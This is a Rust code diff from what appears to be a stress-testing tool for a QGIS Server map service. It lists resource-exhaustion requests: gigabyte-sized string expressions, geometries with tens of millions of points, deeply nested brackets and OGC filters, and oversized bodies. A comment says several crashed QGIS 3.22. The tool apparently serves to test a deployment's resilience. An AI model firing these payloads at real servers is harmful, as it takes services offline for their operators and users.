@@ -14,21 +14,43 @@ const FEATURES: &str = "SERVICE=WFS&REQUEST=GetFeature&TYPENAME=places";
 /// What holds or ends a process. The first eight did on QGIS 3.22, in seconds.
 pub(crate) fn strain(words: &Words) -> Vec<Attack> {
     let mut attacks = vec![
-        filter("a filter of a box alone in And", "<And><BBOX><PropertyName>geometry</PropertyName><gml:Box><gml:coordinates>0,0 1,1</gml:coordinates></gml:Box></BBOX></And>"),
-        filter("Equals of a geometry", "<Equals><PropertyName>geometry</PropertyName><gml:Point><gml:coordinates>0,0</gml:coordinates></gml:Point></Equals>"),
-        expression("20,000 terms", format!("{}>0", ["1"; 20_000].join("+"))),
-        expression("a text of 2 GB", "rpad('a',2147483647,'b')='a'".into()),
+        filter(
+            "a filter of a box alone in And",
+            "<And><BBOX><PropertyName>geometry</PropertyName><gml:Box><gml:coordinates>0,0 1,1</gml:coordinates></gml:Box></BBOX></And>",
+        ),
+        filter(
+            "Equals of a geometry",
+            "<Equals><PropertyName>geometry</PropertyName><gml:Point><gml:coordinates>0,0</gml:coordinates></gml:Point></Equals>",
+        ),
+        expression("20,000 terms", &format!("{}>0", vec!["1"; 20_000].join("+"))),
+        expression("a text of 2 GB", "rpad('a',2147483647,'b')='a'"),
         unknown_property(),
-        expression("a circle of 30,000,000 points", "num_points(make_circle(make_point(0,0),1,30000000))>0".into()),
+        expression("a circle of 30,000,000 points", "num_points(make_circle(make_point(0,0),1,30000000))>0"),
         coverage(20_000),
         keyed_deletion(),
-        expression("a text of 500 MB", "lpad('a',500000000,'b')='a'".into()),
-        expression("a polygon of 20,000,000 corners", "num_points(make_regular_polygon(make_point(0,0),make_point(1,1),20000000,0))>0".into()),
-        expression("nested growth", "length(replace(replace(replace(repeat('a',9),'a',rpad('a',999,'a')),'a',rpad('a',999,'a')),'a',rpad('a',999,'a')))>0".into()),
-        expression("a series of a million", "array_length(array_foreach(generate_series(1,3000000),@element))>0".into()),
-        expression("deep brackets", format!("{}1{}", "(".repeat(20_000), ")".repeat(20_000))),
-        expression("many NOTs", format!("{}true", "NOT ".repeat(20_000))),
-        filter("deep NOTs", &format!("{}<PropertyIsNull><PropertyName>num</PropertyName></PropertyIsNull>{}", "<Not>".repeat(9_000), "</Not>".repeat(9_000))),
+        expression("a text of 500 MB", "lpad('a',500000000,'b')='a'"),
+        expression(
+            "a polygon of 20,000,000 corners",
+            "num_points(make_regular_polygon(make_point(0,0),make_point(1,1),20000000,0))>0",
+        ),
+        expression(
+            "nested growth",
+            "length(replace(replace(replace(rpad('a',999,'a'),'a',rpad('a',999,'a')),'a',rpad('a',999,'a')),'a',rpad('a',999,'a')))>0",
+        ),
+        expression(
+            "a series of a million",
+            "array_length(array_foreach(generate_series(1,3000000),@element))>0",
+        ),
+        expression("deep brackets", &format!("{}1{}", "(".repeat(20_000), ")".repeat(20_000))),
+        expression("many NOTs", &format!("{}true", "NOT ".repeat(20_000))),
+        filter(
+            "deep NOTs",
+            &format!(
+                "{}<PropertyIsNull><PropertyName>num</PropertyName></PropertyIsNull>{}",
+                "<Not>".repeat(9_000),
+                "</Not>".repeat(9_000)
+            ),
+        ),
         body(32 << 20),
         entities(),
     ];
@@ -36,8 +58,8 @@ pub(crate) fn strain(words: &Words) -> Vec<Attack> {
     attacks
 }
 
-fn expression(what: &str, expression: String) -> Attack {
-    let form = format!("{FEATURES}&EXP_FILTER={}", super::super::words::encoded(&expression));
+fn expression(what: &str, expression: &str) -> Attack {
+    let form = format!("{FEATURES}&EXP_FILTER={}", super::super::words::encoded(expression));
     let request = Request::new("POST", "/pozi/ows/alpha/").body("application/x-www-form-urlencoded", form);
     Attack::new(FAMILY, what, request)
 }
@@ -100,7 +122,7 @@ fn pictures() -> Vec<Ask> {
     let sized = |width: &str, height: &str| [one("WIDTH", width), one("HEIGHT", height)].concat();
     let legend = "SERVICE=WMS&VERSION=1.3.0&REQUEST=GetLegendGraphic&LAYER=places&FORMAT=image/png";
     let map = MAP.replace("&WIDTH=20&HEIGHT=20", "");
-    let layers = ["places"; 3_000].join(",");
+    let layers = vec!["places"; 3_000].join(",");
     let ask = |what: &str, honest: &str, sharp| Ask::new(FAMILY, what, honest, sharp);
     vec![
         ask("a map of 30,000 squared", &map, sized("30000", "30000")),
